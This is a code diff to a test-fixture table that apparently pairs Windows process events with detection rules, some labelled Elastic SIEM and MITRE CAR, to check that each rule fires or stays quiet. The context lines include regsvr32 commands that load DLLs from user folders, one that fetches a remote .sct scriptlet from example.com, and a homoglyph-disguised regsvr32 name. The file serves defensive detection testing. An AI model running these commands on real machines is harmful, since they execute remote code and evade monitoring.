@@ -76,6 +76,9 @@ EXAMPLES = {
     "03cc0c25": ([child_of("C:\\Windows\\System32\\mshta.exe")], [NEUTRAL]),
     "f3d39c45": ([child_of("C:\\Windows\\System32\\sdiagnhost.exe")], [NEUTRAL]),
     "69bd9b97": ([child_of("C:\\Users\\Public\\a.exe")], [child_of("C:\\Users\\jdoe\\a.exe")]),
+    "6f0947a4": ([ev("calc.exe", image="C:\\Windows\\System32\\calc.exe", parent=SYS32)],
+                 [ev("C:\\Windows\\System32\\WerFault.exe -u -p 4242 -s 120",
+                     image="C:\\Windows\\System32\\WerFault.exe", parent=SYS32), ev("cmd.exe /c x", image="C:\\Windows\\System32\\cmd.exe", parent=SYS32)]),
     "ce2c44b5": ([ev(PLAIN, cwd="C:\\Users\\jdoe\\Downloads\\")],
                  [ev("C:\\Windows\\System32\\regsvr32.exe /s C:\\Users\\x.dll", cwd="C:\\Users\\jdoe\\"),
                   ev("regsvr32 /s /i:x x.dll", cwd="C:\\Users\\jdoe\\"), ev(PLAIN)]),
@@ -112,6 +115,8 @@ EXAMPLES = {
     "09e5c72a": ([child_of("C:\\Windows\\System32\\svchost.exe")], [NEUTRAL]),
     "f6601940": ([child_of("C:\\Windows\\System32\\mmc.exe")], [NEUTRAL]),
     "2eed004c": ([child_of("C:\\Windows\\System32\\wsmprovhost.exe")], [NEUTRAL]),
+    "61490da9": ([ev("C:\\Windows\\explorer.exe", image="C:\\Windows\\explorer.exe", parent=SYS32)],
+                 [ev("C:\\Windows\\explorer.exe /factory,{x}", image="C:\\Windows\\explorer.exe", parent=SYS32)]),
     "295ca9ed": ([child_of("C:\\Windows\\System32\\calc.exe")], [NEUTRAL]),
     # Elastic SIEM
     "cff92c41": ([ev("regsvr32 /s C:\\Users\\Public\\x.dll")],
@@ -143,6 +148,8 @@ EXAMPLES = {
     "b0207677": ([ev("svc.exe x.dll", image=PUBLIC)], [ev("svc.exe x.dll", image="C:\\Program Files\\App\\svc.exe")]),
     "2c7b91fa": ([ev(u"r\u1d49gsvr32 /s x.dll")], [ev(PLAIN)]),
     # MITRE CAR
+    "CAR-2019-04-002": ([ev("calc.exe", image="C:\\Windows\\System32\\calc.exe", parent=SYS32)],
+                        [ev(PLAIN, parent=SYS32), NEUTRAL]),
     "CAR-2019-04-003": ([ev(SQUIBLYDOO)], [ev("regsvr32 /s /n /u /i:http://example.com/file.sct s.dll"),
                                            ev(SQUIBLYDOO.replace("regsvr32", "svc"), image=PUBLIC)]),
 }
